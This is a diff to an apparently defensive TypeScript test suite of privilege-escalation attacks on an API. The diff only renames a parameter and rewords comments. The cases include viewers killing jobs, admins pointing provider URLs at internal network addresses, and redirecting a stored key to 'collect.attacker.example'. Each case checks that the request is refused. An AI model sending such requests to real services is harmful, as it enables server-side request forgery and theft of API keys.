@@ -1,7 +1,7 @@
 import type { ApiAttackContext, Attack } from "../attack.ts";
 import type { Check } from "../oracle/evidence.ts";
 
-/** Requests of somebody must have been refused. */
+/** Checks that all requests of a user were refused. */
 const allRefused =
   (who: string): Check =>
   ({ notes }) => {
@@ -12,20 +12,20 @@ const allRefused =
 const viewer = (
   name: string,
   wants: string,
-  requests: (scene: ApiAttackContext) => Promise<unknown>,
+  requests: (context: ApiAttackContext) => Promise<unknown>,
 ): Attack => ({
   name,
   wants,
   control: "access",
   vector: "api",
   checks: [allRefused("viewer")],
-  act: { kind: "api", requests: async (scene) => void (await requests(scene)) },
+  act: { kind: "api", requests: async (context) => void (await requests(context)) },
 });
 
 const admin = (
   name: string,
   wants: string,
-  requests: (scene: ApiAttackContext) => Promise<unknown>,
+  requests: (context: ApiAttackContext) => Promise<unknown>,
 ): Attack => ({
   name,
   wants,
@@ -33,7 +33,7 @@ const admin = (
   vector: "api",
   needs: ["no-private"],
   checks: [allRefused("admin")],
-  act: { kind: "api", requests: async (scene) => void (await requests(scene)) },
+  act: { kind: "api", requests: async (context) => void (await requests(context)) },
 });
 
 const config = (repository: string, baseUrl: string): object => ({
@@ -44,7 +44,7 @@ const config = (repository: string, baseUrl: string): object => ({
   users: ["vera"],
 });
 
-/** Somebody who may read a repository, and wants more. */
+/** Attacks by a user with read permission who tries to do more. */
 export const PRIVILEGE_ESCALATION: readonly Attack[] = [
   viewer("viewer-publishes", "our name under a draft", async ({ viewer: person, draft }) => {
     const id = await draft();
@@ -87,7 +87,7 @@ export const PRIVILEGE_ESCALATION: readonly Attack[] = [
     ({ viewer: person, trapUrl }) =>
       person.ask("POST", "/api/providers/test", config("acme/x", trapUrl)),
   ),
-  viewer("viewer-stops-runners", "an end of everybody's work", ({ viewer: person }) =>
+  viewer("viewer-stops-runners", "the end of all jobs", ({ viewer: person }) =>
     person.ask("POST", "/admin/pods/kill", { repository: "acme/checkout", job: "1" }),
   ),
   ...(
@@ -101,27 +101,31 @@ export const PRIVILEGE_ESCALATION: readonly Attack[] = [
       ["own-network", () => "http://10.0.0.1/v1"],
     ] as const
   ).map(([name, address]) =>
-    admin(`address-${name}`, "a request to the server's own network", async (scene) => {
-      const body = config(scene.repository, address(scene.trapUrl));
-      await scene.admin.ask("POST", "/api/providers", body);
+    admin(`address-${name}`, "a request to the server's own network", async (context) => {
+      const body = config(context.repository, address(context.trapUrl));
+      await context.admin.ask("POST", "/api/providers", body);
     }),
   ),
   {
-    ...admin("address-that-is-probed", "the same, without keeping it", async (scene) => {
-      await scene.admin.ask("POST", "/api/providers/test", config(scene.repository, scene.trapUrl));
+    ...admin("address-that-is-probed", "the same, without keeping it", async (context) => {
+      await context.admin.ask(
+        "POST",
+        "/api/providers/test",
+        config(context.repository, context.trapUrl),
+      );
     }),
-    // The answer tells that it was refused, by its words.
+    // The status of the answer shows whether it was refused.
     checks: [],
   },
-  admin("key-for-another-address", "a kept key at an address of theirs", async (scene) => {
-    const id = await scene.createProvider();
+  admin("key-for-another-address", "a kept key at an address of theirs", async (context) => {
+    const id = await context.createProvider();
     const body = { ifMatch: '"1"', baseUrl: "https://collect.attacker.example/v1" };
-    await scene.admin.ask("PATCH", `/api/providers/${id}`, body);
+    await context.admin.ask("PATCH", `/api/providers/${id}`, body);
   }),
   {
-    ...admin("key-for-a-probe-elsewhere", "the same, by a test", async (scene) => {
-      const id = await scene.createProvider();
-      await scene.admin.ask("POST", `/api/providers/${id}/test`, { baseUrl: scene.trapUrl });
+    ...admin("key-for-a-probe-elsewhere", "the same, by a test", async (context) => {
+      const id = await context.createProvider();
+      await context.admin.ask("POST", `/api/providers/${id}/test`, { baseUrl: context.trapUrl });
     }),
     checks: [],
   },
